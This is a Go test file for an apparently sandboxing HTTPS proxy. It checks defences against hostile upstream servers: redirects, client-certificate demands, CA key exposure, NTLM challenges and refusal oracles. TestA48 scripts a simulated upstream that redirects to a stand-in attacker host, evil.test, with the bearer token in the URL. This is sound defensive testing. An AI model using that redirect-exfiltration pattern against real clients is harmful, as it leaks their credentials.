package mitm

import (
	"bytes"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/omnijail/omnijail/internal/audit"
)

// The attacks A47 to A57 that are not about addresses: what an upstream says and
// asks for, whose certificate is believed where, and what a refusal tells.

func TestA47_RedirectIsNotFollowed(t *testing.T) {
	l := newLab(t, labOptions{answer: func(w http.ResponseWriter, req *http.Request) {
		http.Redirect(w, req, "https://evil.test/next", http.StatusTemporaryRedirect)
	}})
	for _, method := range []string{"GET", "POST"} {
		resp, body := l.ask(send(method, "/a", "Content-Length: 0"))
		if resp.StatusCode != 307 || resp.Header.Get("Location") != "https://evil.test/next" {
			t.Errorf("%d %v %s", resp.StatusCode, resp.Header, body)
		}
	}
	if got := l.good.requestLines(); !slices.Equal(got, []string{"GET /a", "POST /a"}) {
		t.Errorf("good.test saw %q", got)
	}
}

func TestA48_RedirectThatHoldsTheSecret(t *testing.T) {
	l := newLab(t, labOptions{answer: func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Location", "https://evil.test/?token="+strings.TrimPrefix(req.Header.Get("Authorization"), "Bearer "))
		w.WriteHeader(http.StatusFound)
	}})
	resp, _ := l.ask(send("GET", "/"))
	if got := resp.Header.Get("Location"); strings.Contains(got, secretValue) {
		t.Errorf("the jail is sent to %s", got)
	}
}

// TestA50_ClientCertificateAskedFor holds that none is shown: there is none, and an
// upstream that insists is told from one that is broken.
func TestA50_ClientCertificateAskedFor(t *testing.T) {
	for name, max := range map[string]uint16{"TLS 1.2": tls.VersionTLS12, "TLS 1.3": tls.VersionTLS13} {
		t.Run(name, func(t *testing.T) {
			r := newLab(t, labOptions{rules: []string{"GET api.test"}}).rig
			cert, err := testAuthority().mint(mustAuthority(t, "api.test:443"), time.Now())
			if err != nil {
				t.Fatal(err)
			}
			up := &seen{}
			srv := httptest.NewUnstartedServer(up)
			srv.TLS = &tls.Config{Certificates: []tls.Certificate{*cert}, ClientAuth: tls.RequireAnyClientCert, MaxVersion: max}
			srv.Config.ErrorLog = quiet
			srv.StartTLS()
			defer srv.Close()
			resp, body := r.say(r.dialTLS(r.at("api.test:443", srv.Listener.Addr().String()), "api.test"), "GET / HTTP/1.1\r\nHost: api.test\r\n\r\n")
			if resp.StatusCode != 502 || resp.Header.Get("X-Omnijail-Code") != string(audit.CodeUpstreamTLS) || len(up.all()) > 0 {
				t.Errorf("%d %s", resp.StatusCode, body)
			}
		})
	}
}

// TestA52_AJailsCAIsItsOwn holds that what one jail trusts says nothing to another,
// nor to an upstream's verification.
func TestA52_AJailsCAIsItsOwn(t *testing.T) {
	one, other := newLab(t, labOptions{}), newRig(t, options{rules: []string{"GET good.test"}})
	addr := other.serve("good.test:443", &seen{})
	if c, err := tls.Dial("tcp", addr, &tls.Config{RootCAs: one.jailRoots(), ServerName: "good.test"}); err == nil {
		c.Close()
		t.Error("one jail's CA is trusted in another")
	}
	leaf, err := one.ca.mint(mustAuthority(t, "good.test:443"), time.Now())
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewUnstartedServer(&seen{})
	srv.TLS, srv.Config.ErrorLog = &tls.Config{Certificates: []tls.Certificate{*leaf}}, quiet
	srv.StartTLS()
	t.Cleanup(srv.Close)
	one.upstream.Hosts["good.test:443"] = netip.MustParseAddrPort(srv.Listener.Addr().String())
	if resp, _ := one.ask(send("GET", "/")); resp.Header.Get("X-Omnijail-Reason") != "good.test: unknown_authority" {
		t.Errorf("an upstream with a leaf of the jail's CA: %d %v", resp.StatusCode, resp.Header)
	}
}

// TestA53_KeysAreNotHandedOut holds that what leaves the process of a CA has no
// private key in it, and that no two jails have one in common.
func TestA53_KeysAreNotHandedOut(t *testing.T) {
	l, other := newLab(t, labOptions{}), newLab(t, labOptions{})
	a, b := l.ca, other.ca
	raw, err := a.key.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(a.DER(), raw) || bytes.Equal(a.cert.RawSubjectPublicKeyInfo, b.cert.RawSubjectPublicKeyInfo) {
		t.Error("a key is handed out or shared")
	}
	if parsed, err := x509.ParseCertificates(a.DER()); err != nil || len(parsed) != 1 {
		t.Errorf("%d certificates and %v are handed out", len(parsed), err)
	}
	// Nor in any form that a client could ask for it in, or a handshake shows.
	leafKey, err := a.leafKey.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	c := l.dialTLS(l.addr, "good.test")
	defer c.Close()
	for _, shown := range c.ConnectionState().PeerCertificates {
		if bytes.Contains(shown.Raw, raw) || bytes.Contains(shown.Raw, leafKey) {
			t.Error("a handshake shows a key")
		}
	}
}

// TestA55_AuthenticationOfAConnection holds that no upstream gets a client to
// authenticate a connection, which others would then use as who did it.
func TestA55_AuthenticationOfAConnection(t *testing.T) {
	l := newLab(t, labOptions{answer: func(w http.ResponseWriter, req *http.Request) {
		w.Header()["Www-Authenticate"] = []string{"NTLM", "negotiate abc==", `Basic realm="x"`, "  NTLM TlRMTVNT", `Bearer realm="y", NTLM`}
		w.WriteHeader(http.StatusUnauthorized)
	}})
	resp, _ := l.ask(send("GET", "/"))
	if got := resp.Header.Values("Www-Authenticate"); !slices.Equal(got, []string{`Basic realm="x"`}) {
		t.Errorf("the jail is asked for %q", got)
	}
}

// TestA57_RefusalsLookAlike holds that what is refused for a placeholder is refused
// in the same words whether the placeholder exists or not, whose it is and where it
// goes, and that nothing was looked up or dialled to find out.
func TestA57_RefusalsLookAlike(t *testing.T) {
	l := newLab(t, labOptions{})
	n := newNameserver(t, nil)
	n.under(l.rig)
	real := l.placeholder()
	guess := real[:len(real)-8] + "aaaaaaaa"
	var first string
	for i, host := range []string{"evil.test", "evil.test", "evil.test", "good.test"} {
		value := []string{real, guess, strings.ToUpper(real), guess}[i]
		c := l.to(host)
		resp, body := l.say(c, sendTo(host, "GET", "/", "X-Token: "+value))
		c.Close()
		id := resp.Header.Get("X-Omnijail-Id")
		text := strings.ReplaceAll(strings.ReplaceAll(fmt.Sprint(resp.StatusCode, resp.Header, body), id, "ID"), host, "HOST")
		if first == "" {
			first = text
		}
		if resp.StatusCode != 403 || text != first {
			t.Errorf("%s: %s\nwant %s", host, text, first)
		}
	}
	if n.lookups("") > 0 || l.good.accepted() > 0 {
		t.Errorf("%d lookups, %d connections", n.lookups(""), l.good.accepted())
	}
}
